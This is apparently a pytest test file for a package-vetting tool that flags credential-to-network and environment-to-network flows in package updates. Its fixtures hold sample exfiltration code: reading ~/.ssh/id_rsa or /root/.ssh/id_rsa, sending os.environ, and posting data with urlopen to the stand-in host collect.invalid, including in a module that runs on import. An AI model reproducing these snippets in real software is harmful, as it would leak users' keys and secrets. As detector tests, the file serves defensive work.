"""An update's files are walked with what they import, as the whole version does, whatever did not change."""

import pytest
from source_lab import Version

from beartrap.model.coverage import Gap
from beartrap.vet.behaviour import Behaviour
from beartrap.vet.source import linking
from beartrap.vet.source_packages import PACKAGES, ROOTS

CLIENT = """\
import os
import urllib.request

HOST = "https://api.vendor.invalid"

class Client:
    def __init__(self, token):
        self.token = token

    def login(self):
        return self.send(self.token)

    def send(self, body):
        return body

def describe(value):
    return str(value)

def run():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
        return Client("").send(key.read())
"""


def new_in(old: dict[str, str], new: dict[str, str]) -> set[str]:
    """Return what the whole new version shows that the old one does not."""
    changed = {path for path, text in new.items() if old.get(path) != text}
    version = Version(new, changed=changed, trusted=Version(old, changed={p for p in old if new.get(p) != old[p]}))
    return _keys(version) - _keys(Version(old))


def _keys(version: Version) -> set[str]:
    found = {seen.key for one in PACKAGES for seen in one.look(version) if isinstance(seen, Behaviour)}
    return {key for key in found if key.startswith("chain.")}


def whole(old: dict[str, str], new: dict[str, str]) -> set[str]:
    """Return the same where everything is walked."""
    return _keys(Version(new)) - _keys(Version(old))


SEND = 'return urllib.request.urlopen("https://collect.invalid/", data=body)'


@pytest.mark.parametrize(
    "graft",
    [
        CLIENT.replace("return body", SEND),
        CLIENT.replace("return body", "return post(body)") + f"\ndef post(body):\n    {SEND}\n",
        CLIENT.replace('return Client("").send(key.read())', "body = key.read()\n        " + SEND),
    ],
)
def test_a_secret_of_an_untouched_caller_is_followed_into_what_changed(graft):
    old = {"pkg/__init__.py": "from .client import run\n", "pkg/client.py": CLIENT, "pkg/other.py": "X = 1\n"}
    graft = "from . import other\n" + graft
    old["pkg/client.py"] = "from . import other\n" + CLIENT
    new = {**old, "pkg/client.py": graft}
    assert new_in(old, new) == whole(old, new)
    assert any("credentials-to-network" in key for key in new_in(old, new))


@pytest.mark.parametrize(
    "line", ["relay(str(os.environ))", "relay(open('/root/.ssh/id_rsa').read())", "from .keys import KEY; relay(KEY)"]
)
def test_a_new_line_that_hands_a_secret_to_an_old_sender_in_another_file_is_found(line):
    sender = "import urllib.request\n\ndef relay(body):\n    " + SEND + "\n"
    keys = "KEY = open('/root/.ssh/id_rsa').read()\n"
    client = "import os\nimport subprocess\nfrom .net import relay\n\nsubprocess.run(['true'])\nrelay('started')\n"
    old = {"pkg/net.py": sender, "pkg/keys.py": keys, "pkg/client.py": client}
    assert new_in(old, {**old, "pkg/client.py": client + line + "\n"})
    assert not new_in(old, {**old, "pkg/client.py": client + "relay('done')\n"})


def test_a_harmless_change_shows_nothing():
    old = {
        "pkg/__init__.py": "from .client import run\n",
        "pkg/client.py": "from . import x\n" + CLIENT,
        "pkg/x.py": "",
    }
    assert not new_in(old, {**old, "pkg/client.py": old["pkg/client.py"].replace("return body", "return dict(body)")})


def test_a_module_that_sleeps_is_walked_when_it_is_first_imported():
    sleeping = (
        "import os, urllib.request\nurllib.request.urlopen('https://collect.invalid/', data=str(os.environ).encode())\n"
    )
    old = {"pkg/__init__.py": "from .used import a\n", "pkg/used.py": "a = 1\n", "pkg/tests/evil.py": sleeping}
    new = {**old, "pkg/__init__.py": "from .used import a\nfrom .tests import evil\n"}
    changed = {"pkg/__init__.py"}
    version = Version(new, changed=changed, trusted=Version(old, changed=changed))
    found = [seen for one in PACKAGES for seen in one.look(version) if isinstance(seen, Behaviour)]
    assert any(one.id == "chain.environment-to-network" and one.when.name == "IMPORT" for one in found)


def gaps(version: Version) -> list[Gap]:
    return [seen for one in PACKAGES for seen in one.look(version) if isinstance(seen, Gap)]


def test_changed_files_beyond_the_bound_are_told():
    one = "from .a import x\nimport subprocess\nsubprocess.run(['true'])\n"
    few = {f"pkg/m{number}.py": one for number in range(ROOTS)}
    assert not gaps(Version({"pkg/a.py": "x = 1\n", **few}))
    assert gaps(Version({"pkg/a.py": "x = 1\n", **few, "pkg/more.py": one}))


def test_an_imported_file_that_is_too_large_is_told():
    large = "x = 1\n" * (linking.MODULE_BYTES // 6 + 1)
    root = "from . import a\nimport subprocess\nsubprocess.run([a.x])\n"
    assert gaps(Version({"pkg/__init__.py": root, "pkg/a.py": large}))
    assert not gaps(Version({"pkg/__init__.py": root, "pkg/a.py": large[:600]}))
